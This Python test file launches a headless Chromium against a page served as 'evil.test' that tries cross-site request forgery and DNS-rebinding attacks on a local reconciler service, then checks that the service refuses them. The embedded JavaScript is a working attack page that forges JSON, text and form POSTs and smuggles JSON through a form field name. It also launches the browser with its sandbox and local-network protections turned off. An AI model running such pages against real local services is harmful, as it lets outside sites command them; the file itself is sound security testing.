"""A real browser shows pages that try to command a service on this machine."""

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Final

import pytest
from support.web_services import Services, served

from sluice_web import application

CHROMIUM: Final = shutil.which("chromium")
PAGE_S: Final = 60.0

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        CHROMIUM is None, reason="chromium is not installed: run `make test-browser`"
    ),
]

PAGE = """<!doctype html><title>page</title><body><iframe name="sink"></iframe>
<img id="image"><script>
const target = __TARGET__, service = __SERVICE__, results = {};
const body = JSON.stringify({action: "quarantine_identity", note: "from a page"});
const attempt = async (name, promise) => {
  try {
    const answer = await promise();
    results[name] = answer.type === "opaque" ? "opaque" : answer.status;
  } catch (error) { results[name] = "blocked"; }
};
const post = (type, mode) => () => fetch(service + target, {
  method: "POST", mode, credentials: "include", body: new Blob([body], {type})});
const form = (enctype) => new Promise((done) => {
  const it = document.createElement("form");
  Object.assign(it, {method: "POST", action: service + target, enctype, target: "sink"});
  const field = document.createElement("input");
  Object.assign(field, {name: '{"action":"quarantine_identity","note":"', value: '"}'});
  it.append(field); document.body.append(it);
  document.querySelector("iframe").onload = () => done({status: "sent"});
  it.submit();
});
(async () => {
  await attempt("json", post("application/json", "cors"));
  await attempt("text", post("text/plain", "no-cors"));
  await attempt("form_plain", () => form("text/plain"));
  await attempt("form_urlencoded", () => form("application/x-www-form-urlencoded"));
  await attempt("read", () => fetch(service + "/v1/conflicts"));
  await attempt("lease", () => new Promise((done) => {
    const image = document.querySelector("#image");
    image.onerror = image.onload = () => done({status: "sent"});
    image.src = service + "/v1/queue/next?queue=http";
  }));
  results.beacon = navigator.sendBeacon(service + target, new Blob([body], {type: "text/plain"}));
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


class _PageHandler(BaseHTTPRequestHandler):
    """Serves the page and its report; every other path reaches the service, as after rebinding.

    The browser sees one origin, because name and port stay the same. The service receives the
    fields that the browser sent.
    """

    server: "_PageServer"

    def do_GET(self) -> None:
        if self.path == "/":
            self._send(200, self.server.page.encode())
        else:
            self._pass_on(b"")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        if self.path != "/report":
            self._pass_on(body)
            return
        self.server.report = json.loads(body)
        self._send(200, b"")
        self.server.reported.set()

    def _pass_on(self, body: bytes) -> None:
        fields = [(name, value) for name, value in self.headers.items() if name != "Connection"]
        kept = [(name, value) for name, value in fields if name != "Content-Length"]
        answer = self.server.services.request(
            "reconciler", self.command, self.path, *kept, body=body
        )
        self._send(answer.status, answer.body)

    def _send(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        """Do not log."""


class _PageServer(ThreadingHTTPServer):
    page = ""
    daemon_threads = True

    def __init__(self, services: Services) -> None:
        super().__init__(("127.0.0.1", 0), _PageHandler)
        self.services = services
        self.report: dict[str, Any] = {}
        self.reported = threading.Event()


@contextmanager
def pages(services: Services) -> Iterator[_PageServer]:
    with _PageServer(services) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()


def show(server: _PageServer, folder: Path, target: str, service: str) -> dict[str, Any]:
    """Show the page under a name that resolves to this machine; return what it reported."""
    filled = PAGE.replace("__TARGET__", json.dumps(target))
    server.page = filled.replace("__SERVICE__", json.dumps(service))
    command = [
        *(str(CHROMIUM), "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"),
        *("--disable-dev-shm-usage", "--disable-background-networking", "--disable-extensions"),
        f"--user-data-dir={folder}/profile",
        "--host-resolver-rules=MAP evil.test 127.0.0.1",
        "--disable-features=LocalNetworkAccessChecks",  # a browser's own defence hides ours
        "--remote-debugging-port=0",
        f"http://evil.test:{server.server_address[1]}/",
    ]
    with (folder / "chromium.log").open("wb") as log:
        process = subprocess.Popen(command, stdout=log, stderr=log)
        try:
            if not server.reported.wait(PAGE_S):
                reason = (folder / "chromium.log").read_text(encoding="utf-8", errors="replace")
                raise AssertionError(f"the page did not report: {reason[-3000:]}")
        finally:
            process.terminate()
            process.wait(20)
    return server.report


def conflict_of(services: Services) -> dict[str, Any]:
    (found,) = services.request("reconciler", "GET", "/v1/conflicts").problem["conflicts"]
    conflict: dict[str, Any] = found
    return conflict


def attack(services: Services, folder: Path, service: str) -> dict[str, Any]:
    """Let the page try everything; return its report. `{own}` is the page's port."""
    conflict = conflict_of(services)
    assert conflict["state"] == "open"
    with pages(services) as server:
        origin = service.format(own=server.server_address[1], port=services.ports["reconciler"])
        return show(server, folder, f"/v1/conflicts/{conflict['id']}/resolve", origin)


def test_a_rebound_page_resolves_nothing(tmp_path: Path) -> None:
    """The browser treats the service as the page's own origin; `Host` is the page's name."""
    with served(tmp_path) as services:
        report = attack(services, tmp_path, "http://evil.test:{own}")
        assert (report["json"], report["text"], report["read"]) == (403, 403, 403)
        assert conflict_of(services)["state"] == "open"


@pytest.mark.parametrize("name", ["127.0.0.1", "evil.test"])
def test_a_page_of_another_origin_resolves_nothing(tmp_path: Path, name: str) -> None:
    with served(tmp_path) as services:
        report = attack(services, tmp_path, "http://" + name + ":{port}")
        assert (report["json"], report["text"], report["read"]) == ("blocked", "opaque", "blocked")
        assert conflict_of(services)["state"] == "open"


def test_without_the_gate_the_same_page_resolves_the_conflict(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attack is real: the browser and the page would succeed."""
    monkeypatch.setattr(application, "refusal_of", lambda *_: "")
    with served(tmp_path) as services:
        report = attack(services, tmp_path, "http://evil.test:{own}")
        assert (report["json"], report["read"]) == (200, 200)
        assert conflict_of(services)["state"] == "quarantine_identity"
